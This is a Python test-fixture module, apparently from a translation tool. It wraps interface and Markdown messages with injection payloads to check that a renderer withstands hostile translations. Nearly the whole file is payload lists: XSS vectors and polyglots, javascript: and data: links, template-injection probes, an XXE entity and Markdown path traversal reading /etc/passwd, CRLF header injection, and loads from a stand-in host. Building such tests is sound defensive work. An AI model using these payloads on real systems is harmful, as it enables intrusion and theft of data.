r"""Texts that attack their readers: what a hostile or careless translator might write.

They reach the renderer without the checks that keep such messages out of a catalog, so
that it has to withstand them by itself. Each that runs sets `window.__xss`.

Law: a message keeps its own text, so that a page of attacks has every link, picture and
footnote of the original, and only what an attack made differs.
"""

from hashlib import sha256
from typing import Final

from dragoman.pages.page import Definitions

# Before the text. None opens what the text itself could close.
_BEFORE: Final = (
    "javascript:window.__xss=1//",
    "//xss.invalid/x.png?",
    "</title><script>window.__xss=1</script>",
    '"><img src=x onerror="window.__xss=1">',
    "'><svg onload='window.__xss=1'>",
    "</script><script>window.__xss=1</script>",
    '" onmouseover="window.__xss=1" autofocus onfocus="window.__xss=1" x="',
    "' autofocus onfocus='window.__xss=1' x='",
    "<img src=x onerror=window.__xss=1>",
    "</style><script>window.__xss=1</script>",
    "</textarea></noscript></template><script>window.__xss=1</script>",
    "]]></content></entry><script>window.__xss=1</script>",
    "--><script>window.__xss=1</script>",
    "# ",
    "- ",
    "1. ",
    "> ",
    "    ",
    "***\n",
    "| a | b |\n| - | - |\n| c | d |\n\n",
    "~~~html\n<script>window.__xss=1</script>\n",
    "<div><script>window.__xss=1</script></div>\n\n",
    "</main></body></html><script>window.__xss=1</script>",
    "\N{RIGHT-TO-LEFT OVERRIDE}",
    "\x01p\x02",
    "\N{ZERO WIDTH NO-BREAK SPACE}<script>window.__xss=1</script>",
)

# Behind the text: in the text of an interface, an attribute, a URL, JSON, XML, CSS.
_BEHIND: Final = (
    "<script>window.__xss=1</script>",
    "<ScRiPt\t>window.__xss=1</sCrIpT\n>",
    "<script src=//xss.invalid/x.js></script>",
    "<script/x>window.__xss=1</script",
    "</script\t><svg/onload=window.__xss=1//",
    "<!--<script>window.__xss=1//",
    "<img src=`x` onerror=window.__xss=1>",
    "<img src=//xss.invalid/x.png srcset=//xss.invalid/y.png>",
    "<image href=x onerror=window.__xss=1>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.__xss=1><text>x</text></a></svg>",
    "<svg><style><!--</style><img title=--><img src=x onerror=window.__xss=1>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>",
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "<iframe src=javascript:parent.__xss=1></iframe>",
    "<object data=//xss.invalid/></object><embed src=//xss.invalid/>",
    '<link rel=stylesheet href="//xss.invalid/x.css"><base href="//xss.invalid/">',
    '<meta http-equiv=refresh content="0;url=javascript:window.__xss=1">',
    "<style>@import '//xss.invalid/x.css';*{background:url(//xss.invalid/x)}</style>",
    "<details open ontoggle=window.__xss=1><summary>x</summary></details>",
    "<video><source onerror=window.__xss=1></video>",
    "<audio src=x onerror=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<button formaction=javascript:window.__xss=1>x</button>",
    "<form action=//xss.invalid/><input type=submit></form>",
    "<body onload=window.__xss=1><html onclick=window.__xss=1>",
    "<template shadowrootmode=open><script>window.__xss=1</script></template>",
    "<p style=\"background:url('//xss.invalid/x')\">x</p>",
    '"};window.__xss=1;//',
    "';window.__xss=1;//",
    '\\";window.__xss=1;//',
    '","@type":"Person","url":"javascript:window.__xss=1","x":"',
    "\u2028window.__xss=1\u2029",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "&#x3c;img src=x onerror=window.__xss=1&#x3e;&#0;&#1;&#x80;",
    "&quot; onmouseover=&quot;window.__xss=1",
    "\\x3cscript\\x3ewindow.__xss=1\\x3c/script\\x3e \\u003cimg src=x\\u003e",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-",
    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e <\u017fcript>window.__xss=1",
    "<\x00script>window.__xss=1</script>\x01\x05\x08\x0b\x0c\x1f\x7f\x85\ufdd0\uffff",
    "<scr\u200bipt>window.__xss=1</scr\u200bipt>\u202egnp.exe\u2066",
    "]]><![CDATA[<script>window.__xss=1</script>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "\r\nContent-Type: text/html\r\n\r\n<script>window.__xss=1</script>",
    "{{ 7331*7331 }}${7331*7331}#{7331*7331}<%= 7331*7331 %>",
    "{% include 'said.html' %}{# x #}",
    "{{ self.__init__.__globals__ }}{{ ''.__class__.__mro__ }}{% raw %}",
    "%(unknown)s %s %d %n % %% %(count)999999999d %(count)s",
    "{} {0} {0.__class__} {count!r:>9}",
    "}*{background:url(//xss.invalid/x)}/*",
    "expression(window.__xss=1)</style><b>",
    "data:text/html,<script>window.__xss=1</script>",
    "javascript:window.__xss=1",
    (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.__xss=1 )//%0D%0A%0d%0a"
        "//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__xss=1//>"
    ),
)

# Behind the text of a page, as Markdown.
_MARKED: Final = (
    "[x](javascript:window.__xss=1)",
    "[x](JaVaScRiPt:window.__xss=1)",
    "[x](java\tscript:window.__xss=1) [x](<java\\\nscript:window.__xss=1>)",
    "[x](&#106;avascript:window.__xss=1) [x](javascript&colon;window.__xss=1)",
    "[x](&#1;javascript:window.__xss=1) [x](\u2028javascript:window.__xss=1)",
    "[x](vbscript:x) [x](data:text/html,<script>window.__xss=1</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)",
    '<javascript:window.__xss=1> <data:text/html,x> <http://a:1"onclick=window.__xss=1>',
    "[x](//xss.invalid/ 'x') [x](\\\\xss.invalid) [x](/\\xss.invalid)",
    '[x](https://xss.invalid/"onmouseover="window.__xss=1)',
    "[x](https://xss.invalid/ '\" onmouseover=\"window.__xss=1')",
    '[x](https://xss.invalid/ "&quot; autofocus onfocus=&quot;window.__xss=1")',
    "[<img src=x onerror=window.__xss=1>](https://xss.invalid/)",
    "[x](https://xss.invalid/<script>window.__xss=1</script>)",
    "![x](https://xss.invalid/x.png) ![x](//xss.invalid/x.png)",
    "![x](javascript:window.__xss=1)",
    "![x](data:image/svg+xml,<svg onload=window.__xss=1>)",
    '![" onerror="window.__xss=1](x.png) ![x](x" onerror="window.__xss=1)',
    "![x](/static/../etc/passwd) [x](../../../etc/passwd) [x](/../x)",
    "[x][x-xss]\n\n[x-xss]: javascript:window.__xss=1",
    '[^x]: <script>window.__xss=1</script> [^<script>] [^" onclick="window.__xss=1]',
    "`<script>window.__xss=1</script>` ``` </code><script>window.__xss=1</script>",
    "**<b onclick=window.__xss=1>**x** *_~~x <details open ontoggle=window.__xss=1>",
    "<!-- --><script>window.__xss=1</script> <!-- x --!><img src=//xss.invalid/x>",
    "<!-- i18n: context=x --> <?php x ?> <![CDATA[x]]> <!DOCTYPE html>",
    "<a href=javascript:window.__xss=1>x</a> <a href='//xss.invalid'>x</a>",
    "\\<script>window.__xss=1</script> \\\\<script>window.__xss=1</script>",
    "\x01phome.md\x02\x02 onclick=window.__xss=1\x03x\x04",
    "\x00x\x06 \x05x\x02y\x02 onerror=window.__xss=1\x06",
    "[ x ](<https://xss.invalid/\n<script>window.__xss=1</script>>)",
    "x\\\n<script>window.__xss=1</script>\n# x\n- x\n> x",
    "| <script>window.__xss=1</script> | x |",
    "[[[[[[[[[[[[[[[[x](javascript:window.__xss=1)](x)]]]]]]]]]]]]]]",
    "```html\n<script>window.__xss=1</script>\n",
    "> [!NOTE]\n> <script>window.__xss=1</script>",
)

# Of each kind, behind one message.
_SEVERAL: Final = 3


def attacked(text: str) -> str:
    """Return an interface message with attacks around it.

    Args:
        text: The message; the attacks are others for each.
    """
    chosen = _Chosen(text)
    behind = " ".join(chosen.several(_BEHIND))
    return f"{chosen.one(_BEFORE)}{text} {behind}"


def attacked_markup(text: str, _: Definitions) -> str:
    """Return a message of a page with attacks around it.

    Args:
        text: The message; the attacks are others for each.
        _: What the message may refer to.
    """
    chosen = _Chosen(text)
    behind = (*chosen.several(_BEHIND), *chosen.several(_MARKED))
    return f"{chosen.one(_BEFORE)}{text} {' '.join(behind)}"


class _Chosen:
    """A choice of attacks that is always the same for a message.

    Args:
        text: The message.
    """

    def __init__(self, text: str) -> None:
        self._number = int.from_bytes(sha256(text.encode()).digest(), "big")

    def one(self, attacks: tuple[str, ...]) -> str:
        self._number, place = divmod(self._number, len(attacks))
        return attacks[place]

    def several(self, attacks: tuple[str, ...]) -> list[str]:
        return [self.one(attacks) for _ in range(_SEVERAL)]
